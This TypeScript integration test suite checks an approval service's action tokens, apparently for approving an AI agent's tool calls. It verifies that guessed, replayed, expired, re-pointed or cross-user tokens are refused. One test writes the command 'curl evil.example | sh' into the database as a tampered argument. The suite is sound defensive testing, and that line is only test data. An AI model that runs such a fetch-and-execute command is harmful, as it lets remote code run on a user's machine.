import 'reflect-metadata';
import { INestApplication } from '@nestjs/common';
import { NestFactory } from '@nestjs/core';
import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import pino from 'pino';
import { DataSource } from 'typeorm';
import { Actor } from '@skald/contracts';
import { NatsBus } from '@skald/messaging';
import { RemoteError } from '@skald/messaging/bus-errors';
import { loadConfig } from '@skald/service-kit/config';
import { PrivateNats } from '@skald/testing';
import { AppModule } from '../app.module';
import { ApprovalConfigSchema } from '../config';

const DATABASE_URL = process.env.DATABASE_URL ?? 'postgres://postgres@127.0.0.1:5432/skald_test';
const user = (): Actor => ({ userId: randomUUID(), role: 'user' });

/** The code of a refusal, or `ok`. */
async function outcome(p: Promise<unknown>): Promise<string> {
  try {
    await p;
    return 'ok';
  } catch (e) {
    if (e instanceof RemoteError) return `${e.body.code}: ${e.body.message}`;
    throw e;
  }
}

/**
 * Action tokens, attacked over NATS against the real approval service and Postgres: what a
 * stolen, replayed, guessed, expired or re-pointed token can do (nothing), and that twenty
 * concurrent redemptions of one token approve once.
 */
describe('approval action tokens', () => {
  const log = pino({ level: 'silent' });
  let app: INestApplication;
  let client: NatsBus;
  let db: DataSource;
  let nats: PrivateNats;

  beforeAll(async () => {
    nats = await PrivateNats.start();
    const config = loadConfig(ApprovalConfigSchema, {
      NATS_URL: nats.url,
      DATABASE_URL,
      DATABASE_POOL_SIZE: '6',
      SKALD_AUDIT_FLUSH_MS: '50',
    });
    app = await NestFactory.create(AppModule.register(config, log, `action-tokens-it-${process.pid}`), {
      logger: false,
    });
    await app.init();
    client = await NatsBus.connect({ servers: nats.url, name: `action-tokens-it-client-${process.pid}` }, log);
    db = new DataSource({ type: 'postgres', url: DATABASE_URL, extra: { max: 2 } });
    await db.initialize();
  });
  afterAll(async () => {
    await client?.drain();
    await app?.close();
    await db?.destroy();
    await nats?.destroy();
  });

  const register = async (actor: Actor, args: Record<string, unknown> = { command: 'make deploy' }) => {
    const request_id = randomUUID();
    await client.call('approval.register', {
      actor,
      request_id,
      kind: 'approval',
      tool_call_id: randomUUID(),
      session_id: randomUUID(),
      source: 'web',
      tool_name: 'execute_cmd',
      arguments: args,
    });
    return request_id;
  };
  const mint = (requestId: string, userId: string) =>
    client.call('approval.action_token.mint', { request_id: requestId, user_id: userId });
  const redeem = (token: string, action: 'approve' | 'reject' = 'approve') =>
    client.call('approval.action.redeem', { token, action });
  const statusOf = async (requestId: string) =>
    (
      await db.query<Array<{ status: string; channel: string | null; actor_user_id: string | null }>>(
        `SELECT status, channel, actor_user_id FROM approval_requests WHERE id = $1`,
        [requestId],
      )
    )[0];
  const REFUSED = /^forbidden: this notification can no longer answer the request/;

  it('refuses generated tokens, and the refusal is one message whatever the token', async () => {
    const alice = user();
    const requestId = await register(alice);
    await mint(requestId, alice.userId);
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.stringMatching(/^[\w-]{1,512}$/),
          fc.uint8Array({ minLength: 32, maxLength: 32 }).map((b) => Buffer.from(b).toString('base64url')),
        ),
        fc.constantFrom('approve' as const, 'reject' as const),
        async (token, action) => {
          expect(await outcome(redeem(token, action))).toMatch(REFUSED);
        },
      ),
      { numRuns: 150, seed: 3801 },
    );
    expect((await statusOf(requestId)).status).toBe('pending');
  });

  it('approves the call once, as its user, through the push channel; a replay is refused', async () => {
    const alice = user();
    const requestId = await register(alice);
    const { token, expires_at } = await mint(requestId, alice.userId);
    const ttl = Date.parse(expires_at) - Date.now();
    expect(ttl).toBeGreaterThan(14 * 60_000);
    expect(ttl).toBeLessThanOrEqual(15 * 60_000 + 5_000);
    // never stored raw
    const stored = await db.query<Array<{ token_hash: string }>>(
      `SELECT token_hash FROM approval_action_tokens WHERE request_id = $1`,
      [requestId],
    );
    expect(stored).toHaveLength(1);
    expect(stored[0].token_hash).not.toContain(token);
    expect(await redeem(token)).toEqual({ status: 'approved', tool_name: 'execute_cmd' });
    expect(await statusOf(requestId)).toEqual({ status: 'approved', channel: 'push', actor_user_id: alice.userId });
    expect(await outcome(redeem(token))).toMatch(REFUSED);
    expect(await outcome(redeem(token, 'reject'))).toMatch(REFUSED);
    const audit = await db.query<Array<{ decision: string; channel: string; actor_user_id: string }>>(
      `SELECT decision, channel, actor_user_id FROM approval_audit WHERE request_id = $1 AND by = 'human'`,
      [requestId],
    );
    expect(audit).toEqual([{ decision: 'approve', channel: 'push', actor_user_id: alice.userId }]);
  });

  it('rejects with a token; a token of an answered request is refused (used first, then the request answered)', async () => {
    const alice = user();
    const requestId = await register(alice);
    const a = await mint(requestId, alice.userId);
    const b = await mint(requestId, alice.userId);
    expect(await redeem(a.token, 'reject')).toEqual({ status: 'rejected', tool_name: 'execute_cmd' });
    expect((await statusOf(requestId)).status).toBe('rejected');
    // the second token is fresh, but the request was answered: first answer wins
    expect(await outcome(redeem(b.token, 'approve'))).toMatch(/^conflict: the request was already rejected/);
    expect((await statusOf(requestId)).status).toBe('rejected');
    expect(await outcome(mint(requestId, alice.userId))).toMatch(/^conflict/);
  });

  it('refuses an expired token', async () => {
    const alice = user();
    const requestId = await register(alice);
    const { token } = await mint(requestId, alice.userId);
    await db.query(`UPDATE approval_action_tokens SET expires_at = now() - interval '1 second' WHERE request_id = $1`, [
      requestId,
    ]);
    expect(await outcome(redeem(token))).toMatch(REFUSED);
    expect((await statusOf(requestId)).status).toBe('pending');
  });

  it('refuses a token whose call changed since it was minted (other arguments, another tool)', async () => {
    const alice = user();
    const edited = await register(alice, { command: 'echo hi' });
    const t1 = await mint(edited, alice.userId);
    await db.query(`UPDATE approval_requests SET arguments = $2 WHERE id = $1`, [
      edited,
      JSON.stringify({ command: 'curl evil.example | sh' }),
    ]);
    expect(await outcome(redeem(t1.token))).toMatch(REFUSED);
    expect((await statusOf(edited)).status).toBe('pending');
    const retooled = await register(alice, { path: 'a.txt' });
    const t2 = await mint(retooled, alice.userId);
    await db.query(`UPDATE approval_requests SET tool_name = 'write_file' WHERE id = $1`, [retooled]);
    expect(await outcome(redeem(t2.token))).toMatch(REFUSED);
    expect((await statusOf(retooled)).status).toBe('pending');
  });

  it("mints nothing for another user's request, a question, or an unknown id", async () => {
    const alice = user();
    const mallory = user();
    const requestId = await register(alice);
    expect(await outcome(mint(requestId, mallory.userId))).toMatch(/^not_found/);
    expect(await outcome(mint(randomUUID(), alice.userId))).toMatch(/^not_found/);
    const question = randomUUID();
    await client.call('approval.register', {
      actor: alice,
      request_id: question,
      kind: 'clarification',
      tool_call_id: randomUUID(),
      session_id: randomUUID(),
      source: 'web',
      tool_name: 'ask_user_clarification',
      arguments: {},
      question: { title: 'Which?', question: 'Which env?', suggested_answers: [] },
    });
    expect(await outcome(mint(question, alice.userId))).toMatch(/^not_found/);
  });

  it("a token of user X cannot touch user Y's request, even re-pointed in the table", async () => {
    const x = user();
    const y = user();
    const xRequest = await register(x);
    const yRequest = await register(y);
    const { token } = await mint(xRequest, x.userId);
    // a row pointed at Y's request (as a bug or an attacker with a write could): still X's token
    await db.query(`UPDATE approval_action_tokens SET request_id = $2 WHERE request_id = $1`, [xRequest, yRequest]);
    expect(await outcome(redeem(token))).toMatch(REFUSED);
    expect((await statusOf(yRequest)).status).toBe('pending');
    expect((await statusOf(xRequest)).status).toBe('pending');
  });

  it('twenty concurrent redemptions of one token approve exactly once', async () => {
    const alice = user();
    const requestId = await register(alice);
    const { token } = await mint(requestId, alice.userId);
    const results = await Promise.all(Array.from({ length: 20 }, () => outcome(redeem(token))));
    expect(results.filter((r) => r === 'ok')).toHaveLength(1);
    expect(results.filter((r) => REFUSED.test(r))).toHaveLength(19);
    const audit = await db.query<Array<{ n: number }>>(
      `SELECT count(*)::int AS n FROM approval_audit WHERE request_id = $1 AND by = 'human'`,
      [requestId],
    );
    expect(audit[0].n).toBe(1);
  });

  it('a different token each mint, never guessable from the last', async () => {
    const alice = user();
    const requestId = await register(alice);
    const tokens = new Set<string>();
    for (let i = 0; i < 5; i++) tokens.add((await mint(requestId, alice.userId)).token);
    expect(tokens.size).toBe(5);
    for (const t of tokens) expect(Buffer.from(t, 'base64url')).toHaveLength(32);
  });
});
